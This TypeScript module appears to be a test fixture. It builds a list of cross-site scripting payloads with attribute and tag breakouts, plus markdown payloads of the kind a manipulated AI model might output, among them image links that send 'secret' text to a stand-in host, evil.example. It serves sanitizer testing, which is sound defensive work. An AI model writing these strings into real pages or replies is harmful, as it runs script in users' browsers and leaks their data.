/**
 * What an attacker writes into text fields: forty ways to make markup run or fetch, each also after
 * something that would end an attribute or element around it.
 */
const FETCHED = "//evil.example/p";

const WAYS = [
  "<script>alert(1)</script>",
  `<script src=${FETCHED}.js></script>`,
  "<img src=x onerror=alert(1)>",
  `<img src=${FETCHED}.png>`,
  `<img srcset=${FETCHED}.png>`,
  `<picture><source srcset=${FETCHED}.png><img></picture>`,
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
  `<svg><image href=${FETCHED}.svg /></svg>`,
  `<svg><use href=${FETCHED}.svg#x /></svg>`,
  "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
  "<body onload=alert(1)>",
  "<iframe src=javascript:alert(1)></iframe>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  `<iframe src=${FETCHED}></iframe>`,
  `<object data=${FETCHED}></object>`,
  `<embed src=${FETCHED}>`,
  `<video src=${FETCHED} autoplay onerror=alert(1)></video>`,
  "<audio src=x onerror=alert(1)></audio>",
  `<video poster=${FETCHED}.png></video>`,
  `<link rel=stylesheet href=${FETCHED}.css>`,
  `<link rel=prefetch href=${FETCHED}>`,
  `<meta http-equiv=refresh content="0;url=${FETCHED}">`,
  `<base href=${FETCHED}/>`,
  `<style>@import '${FETCHED}.css';</style>`,
  `<p style="background:url(${FETCHED}.png)">x</p>`,
  "<input autofocus onfocus=alert(1)>",
  "<textarea autofocus onfocus=alert(1)></textarea>",
  "<select autofocus onfocus=alert(1)></select>",
  "<details open ontoggle=alert(1)>x</details>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<a href=javascript:alert(1)>x</a>",
  "<form action=javascript:alert(1)><button>x</button></form>",
  "<button formaction=javascript:alert(1)>x</button>",
  "<template><img src=x onerror=alert(1)></template>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "{{constructor.constructor('alert(1)')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an attacker writes it like this.
  "${alert(1)}",
];
const BREAKOUTS = ["", '">', "'>", "</title></textarea></script>", "--></style>"];

export const PAYLOADS = BREAKOUTS.flatMap((breakout) => WAYS.map((way) => breakout + way));

/** Markdown that would fetch, run or mislead, as a model could be manipulated to write it. */
export const MARKDOWN = [
  `![secret](https:${FETCHED}.png?text=secret)`,
  `![secret][1]\n\n[1]: https:${FETCHED}.png`,
  `[![x](https:${FETCHED}.png)](https:${FETCHED})`,
  `<img src="https:${FETCHED}.png">`,
  "[press](javascript:alert(1))",
  "[press](JaVaScRiPt:alert(1))",
  "[press](&#106;avascript:alert(1))",
  "[press](data:text/html,<script>alert(1)</script>)",
  "[press](vbscript:alert(1))",
  "<javascript:alert(1)>",
  '[press](x "onmouseover=alert(1)")',
  `![x](blob:https:${FETCHED})`,
  `# <script src=https:${FETCHED}.js></script>`,
  "```html\n<script>alert(1)</script>\n```",
  `| a |\n|---|\n| ![x](https:${FETCHED}.png) |`,
];

/** Joins the payloads into texts of at most `characters`. */
export function packed(payloads: string[], characters: number): string[] {
  const texts: string[] = [];
  for (const payload of payloads) {
    const joined = texts.length > 0 ? `${texts.at(-1)} ${payload}` : payload;
    if (texts.length > 0 && joined.length <= characters) texts[texts.length - 1] = joined;
    else texts.push(payload);
  }
  return texts;
}
